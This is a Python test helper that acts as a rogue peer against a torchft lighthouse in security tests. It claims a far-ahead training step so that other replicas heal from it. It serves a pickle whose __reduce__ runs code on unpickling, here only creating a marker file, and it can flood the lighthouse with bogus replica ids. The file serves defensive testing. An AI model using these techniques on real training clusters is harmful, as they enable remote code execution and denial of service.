"""Peers that do not belong to the run, as an attacker who reaches the lighthouse would run them.

``python tests/rogue_peer.py LIGHTHOUSE MARKER REPLICA_ID`` registers a stock torchft Manager with
the lighthouse, claims a far-ahead step (so torchft picks it as everyone's heal source) and serves,
as its heal state, a pickle that creates the file MARKER when it is unpickled, and joins every
quorum it can until it is killed.

``python tests/rogue_peer.py flood LIGHTHOUSE COUNT`` registers COUNT bogus replica ids, each of
which asks for quorums (claiming a far-ahead step) and sends heartbeats, ten times a second,
until it is killed. Used by tests/test_ft_attacks.py and tests/test_ft_stranger_cost.py.
"""

from __future__ import annotations

import socket
import sys
import threading
import time
import uuid
from datetime import timedelta

import torch.distributed as dist
from torchft import Manager, ProcessGroupGloo
from torchft._torchft import LighthouseClient
from torchft.checkpointing import HTTPTransport

CLAIMED_STEP = 10**6


class Payload:
    """Unpickling it calls open(MARKER, "w"): the file appearing proves code ran."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


class PoisonedTransport(HTTPTransport):
    """torchft's own HTTP transport, always serving the payload at the claimed step."""

    def __init__(self, marker: str) -> None:
        super().__init__(timeout=timedelta(seconds=5), num_chunks=0)
        self.send_checkpoint(
            [], CLAIMED_STEP, {"user": Payload(marker), "torchft": Payload(marker)}, None
        )

    def send_checkpoint(self, dst_ranks, step, state_dict, timeout) -> None:
        if step == CLAIMED_STEP and isinstance(state_dict.get("user"), Payload):
            super().send_checkpoint(dst_ranks, step, state_dict, timeout)

    def disallow_checkpoint(self) -> None:
        pass  # keep serving the payload


def main(lighthouse: str, marker: str, replica_id: str) -> None:
    store = dist.TCPStore("127.0.0.1", 0, is_master=True, wait_for_workers=False)
    manager = Manager(
        pg=ProcessGroupGloo(timeout=timedelta(seconds=5)),
        load_state_dict=lambda state: None,
        state_dict=lambda: {},
        min_replica_size=1,
        use_async_quorum=False,
        timeout=timedelta(seconds=2),
        quorum_timeout=timedelta(seconds=30),
        connect_timeout=timedelta(seconds=10),
        rank=0,
        world_size=1,
        store_addr="127.0.0.1",
        store_port=store.port,
        lighthouse_addr=f"http://{lighthouse}",
        replica_id=replica_id,
        hostname=socket.gethostname(),
        checkpoint_transport=PoisonedTransport(marker),
    )
    manager._step = CLAIMED_STEP
    print("rogue: registered", flush=True)
    while True:
        try:
            manager.start_quorum()
        except Exception as error:  # noqa: BLE001 - a rogue keeps trying
            print(f"rogue: {type(error).__name__}", flush=True)
        manager._step = CLAIMED_STEP
        time.sleep(0.05)


def flood(lighthouse: str, count: str) -> None:
    def bogus(index: int) -> None:
        member = f"{100 + index}:{uuid.uuid4()}"
        while True:
            try:
                client = LighthouseClient(f"http://{lighthouse}", timedelta(seconds=2))
                client.heartbeat(member, timeout=timedelta(seconds=1))
                client.quorum(
                    replica_id=member, timeout=timedelta(seconds=1), step=CLAIMED_STEP,
                    address="http://127.0.0.1:1", store_address="127.0.0.1:1", world_size=1,
                )  # fmt: skip
            except Exception:  # noqa: BLE001 - refused: ask again
                pass
            time.sleep(0.1)

    for index in range(int(count)):
        threading.Thread(target=bogus, args=(index,), daemon=True).start()
    print(f"rogue: flooding with {count} replica ids", flush=True)
    while True:
        time.sleep(60)


if __name__ == "__main__":
    if sys.argv[1] == "flood":
        flood(*sys.argv[2:4])
    else:
        main(*sys.argv[1:4])
